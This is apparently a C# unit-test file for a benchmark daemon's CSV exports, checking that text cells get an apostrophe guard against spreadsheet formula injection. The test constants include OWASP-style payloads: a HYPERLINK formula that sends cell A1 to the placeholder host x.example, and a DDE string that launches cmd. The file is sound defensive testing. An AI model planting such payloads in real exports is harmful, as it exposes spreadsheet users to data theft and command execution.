using IpcBench.Daemon.Control;
using IpcBench.Daemon.Model;
using IpcBench.Reports;
using IpcBench.Daemon.Tests.Infrastructure;

namespace IpcBench.Daemon.Tests;

/// <summary>
/// Every CSV document the daemon writes (ExportScenarios' and `run --out`'s summary and series, ExportSuite's report
/// and comparison) read back by CsvHelper's reader as one table, with text a spreadsheet would run as a formula
/// defused by the one guard they share (Reports/CsvDocument) and numbers left numbers.
/// </summary>
[Collection(LightCollection.Name)]
public sealed class CsvExportTests
{
    // The shapes OWASP lists: a formula, arithmetic that starts with + or -, an @ function, and DDE.
    private const string Formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"open, me\")";
    private const string Plus = "+1+cmd";
    private const string Minus = "-2+3+cmd|' /C calc'!A0";
    private const string At = "@SUM(1+1)";
    private static readonly DateTime T0 = new(2026, 1, 5, 8, 0, 0, DateTimeKind.Utc);

    [Fact]
    public void ScenarioSummaryAndSeries_ReadBackAsOneTableEach_WithFormulasDefused()
    {
        var records = new[] { Scenario("=fx-1", Formula), Scenario("fx-2", "plain name") };

        var summary = CsvTable.Parse(ScenarioExporter.SummaryCsv(records));
        var series = CsvTable.Parse(ScenarioExporter.SeriesCsv(records));

        Assert.Equal(ScenarioExporter.SummaryHeader, summary.Header);
        Assert.Equal(2, summary.Rows.Count);
        Assert.Equal(ScenarioExporter.SeriesHeader, series.Header);
        Assert.Equal(records.Sum(r => r.Series.Count), series.Rows.Count);
        var hostile = summary.Rows[0];
        Assert.Equal(["'=fx-1", "'" + Formula, "'" + Plus, "'" + Minus, "'" + At],
            new[] { "id", "name", "transport", "error", "storage_error" }.Select(c => summary.Get(hostile, c)));
        Assert.Equal("plain name", summary.Get(summary.Rows[1], "name"));
        Assert.Equal("'=fx-1", series.Get(series.Rows[0], "scenario_id"));
        Assert.Equal("fx-2", series.Get(series.Rows[^1], "scenario_id"));
        // Numbers are written as numbers, so the guard does not touch them (a negative one included).
        Assert.Equal("-1.5", series.Get(series.Rows[0], "daemon_cpu_percent"));
        Assert.Equal("1024", summary.Get(hostile, "payload_bytes"));
    }

    [Fact]
    public void SuiteReport_ReadsBackAsOneTable_WithFormulasDefused()
    {
        var sample = ReportSamples.Matrix(Formula);
        var cell = sample.Cells[0];
        var report = sample with
        {
            SuiteId = Formula,
            Cells = [cell with { Repetitions = [cell.Repetitions[0] with { Error = Minus, ScenarioId = At }, .. cell.Repetitions.Skip(1)] },
                .. sample.Cells.Skip(1)],
        };

        var table = CsvTable.Parse(CsvReport.Render(report));

        Assert.Equal(report.Cells.Sum(c => c.Repetitions.Count + 1), table.Rows.Count);
        Assert.All(table.Rows, r => Assert.Equal("'" + Formula, table.Get(r, "suite_id")));
        Assert.Equal(("'" + Minus, "'" + At), (table.Get(table.Rows[0], "error"), table.Get(table.Rows[0], "scenario_id")));
        Assert.Equal(cell.Repetitions[0].MessagesPerSecond.ToString("R", System.Globalization.CultureInfo.InvariantCulture),
            table.Get(table.Rows[0], "messages_per_second"));
    }

    [Fact]
    public void SuiteComparison_ReadsBackAsOneTable_WithFormulasDefused_AndNegativeChangesNumbers()
    {
        var baseline = ReportSamples.Matrix("baseline") with { SuiteId = Plus };
        var comparison = SuiteComparison.Compare(baseline, ReportSamples.Candidate(baseline, id: Formula), 5);

        var table = CsvTable.Parse(CsvReport.RenderComparison(comparison));

        Assert.Equal(1 + comparison.Cells.Sum(c => c.Metrics.Count), table.Rows.Count);
        Assert.All(table.Rows, r => Assert.Equal(("'" + Plus, "'" + Formula), (table.Get(r, "baseline_id"), table.Get(r, "candidate_id"))));
        Assert.Contains(table.Rows, r => table.Get(r, "change_percent").StartsWith('-'));
    }

    [Fact]
    public void EveryDocument_EndsEachRecordWithCrlf_AndQuotesOnlyWhatNeedsIt()
    {
        var csv = CsvDocument.Write(["a", "b", "c"], [["x,y", "say \"hi\"", -3.25], ["line\nbreak", Formula, 7L]]);

        Assert.Equal("a,b,c\r\n\"x,y\",\"say \"\"hi\"\"\",-3.25\r\n\"line\nbreak\",\"'" + Formula.Replace("\"", "\"\"", StringComparison.Ordinal) + "\",7\r\n", csv);
    }

    [Fact]
    public void ARowOfAnotherWidth_IsRefused_SoADocumentIsOneTable()
    {
        Assert.ThrowsAny<InvalidOperationException>(() => CsvDocument.Write(["a", "b"], [["1", "2"], ["only one"]]));
    }

    [Fact]
    public void TheReaderTheseTestsUse_RefusesASecondTableAfterAnEmptyLine()
    {
        // What the suite CSV with a baseline used to be: were this accepted, the tests above could not fail on it.
        Assert.Throws<CsvHelper.CsvFormatException>(() => CsvTable.Parse("a,b\r\n1,2\r\n\r\nCompared with baseline s1\r\nc,d\r\n3,4\r\n"));
        Assert.Equal(2, CsvTable.Parse("a,b\r\n1,2\r\n3,4\r\n").Rows.Count);
    }

    private static ScenarioResult Scenario(string id, string name)
    {
        var spec = new RunSpec(Plus, 1, 2, 1024, TimeSpan.FromSeconds(2), TimeSpan.FromSeconds(0.5), 0, RunTopology.AllToAll, RunPayloadAccess.Full,
            RunMode.Stream, null, name, null);
        var snapshot = new ScenarioSnapshot(id, spec, RunState.Failed, Minus, T0, T0.AddSeconds(1), T0.AddSeconds(3), null, null, null, At);
        IntervalSample[] series = [new(TimeSpan.FromSeconds(1), 1000.5, 1_024_512, null, -1.5, 12), new(TimeSpan.FromSeconds(2), 999, 1_022_976, null, 3, 11)];
        return new ScenarioResult(snapshot, series);
    }
}
